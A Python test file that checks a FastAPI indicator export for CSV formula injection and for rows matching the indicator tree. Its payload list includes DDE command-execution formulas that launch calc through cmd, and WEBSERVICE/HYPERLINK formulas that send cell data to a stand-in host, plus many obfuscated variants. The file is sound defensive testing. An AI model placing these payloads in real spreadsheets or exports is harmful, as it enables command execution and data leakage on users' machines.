"""The export: a row for each indicator, and no cell that a spreadsheet would run."""

import csv
import io
import json

import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient

from app.core.access import Role
from app.core.cells import harmless_cell
from tests.makers.identity import make_client
from tests.makers.indicators import in_tree, indicator_body, load_plan, read_tree, send_value
from tests.makers.tour import V1, done

FORMULAS = [
    "=1+1", "=SUM(A1:A9)", "=cmd|' /C calc'!A0", "=cmd|'/C notepad'!'A1'", "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"klik")', '=WEBSERVICE("http://example.org/"&A1)',
    '=IMPORTXML("http://example.org","//a")', '=IMPORTDATA("http://example.org")',
    '=IMAGE("http://example.org/x.png")', '=DDE("cmd";"/C calc";"x")', "=MSEXCEL|'\\..\\cmd'!''",
    "=1+1;=2+2", "a;=1+1", "a; =1+1", "a;+1", "a;-1+1", "a;@SUM(1)", 'a";=1+1', "a\t=1+1",
    "a\n=1+1",
    "a\r\n=1+1", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "   =1+1", "\u00a0=1+1", "\u200b=1+1",
    "\ufeff=1+1", "\u200e=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", '"=1+1"',
    "'=1+1", "\x00=1+1", "\t@SUM(1)", " \t -1+1",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_part_of_a_cell_begins_a_formula(formula: str) -> None:
    assert len(FORMULAS) >= 40
    cell = harmless_cell(formula)
    for part in cell.replace("\r", "\n").replace("\t", "\n").replace(";", "\n").split("\n"):
        seen = part.strip(' \u00a0\u200b\u200e\ufeff"\x00')
        assert not seen or seen[0] not in "=+-@\uff1d\uff0b\uff0d\uff20", repr(cell)
    assert cell[0] not in "\t\r\n\x00"


@pytest.mark.parametrize(
    "text", ["Kerngroep", "3 van 4", "a-b", "a=b", "Genk; Hasselt", "x@example.org", "1+1", ""]
)
def test_everyday_text_stays_as_it_is(text: str) -> None:
    assert harmless_cell(text) == text


@pytest.fixture
def worker(application: FastAPI) -> TestClient:
    return make_client(application, Role.COORDINATOR)


def test_the_export_tells_what_the_tree_tells(worker: TestClient) -> None:
    answer = worker.get(f"{V1}/indicators/export", params={"year": 2010})
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert "indicators-2010.csv" in answer.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    shown = list(in_tree(read_tree(worker, 2010)))
    assert [(row["indicator"], row["state"]) for row in rows] == [
        (one["code"], one["state"]) for one in shown
    ]
    form = {"year": 2010, "format": "json"}
    found = json.loads(worker.get(f"{V1}/indicators/export", params=form).text)
    assert [row["indicator"] for row in found] == [row["indicator"] for row in rows]
    core = next(row for row in rows if row["indicator"] == "OD3.1.2-R2-I1")
    assert (core["norm_value"], core["norm_per"], core["strategic"]) == ("4", "year", "SD3")


def test_what_people_wrote_is_no_formula_in_the_export(worker: TestClient) -> None:
    wicked = '=HYPERLINK("http://example.org";"klik")'
    load_plan(worker, indicator_body("I1", title={"nl": wicked}))
    done(send_value(worker, "I1", 2025, value=1234567.5, evidence=f"Regel een\n{wicked}"), 201)
    text = worker.get(f"{V1}/indicators/export", params={"year": 2025}).text
    [row] = csv.DictReader(io.StringIO(text))
    assert row["indicator_title"].startswith("'=")
    assert row["evidence"] == f"Regel een {wicked}"
    assert row["value"] == "1234567.5"
    assert "\n" not in row["evidence"]
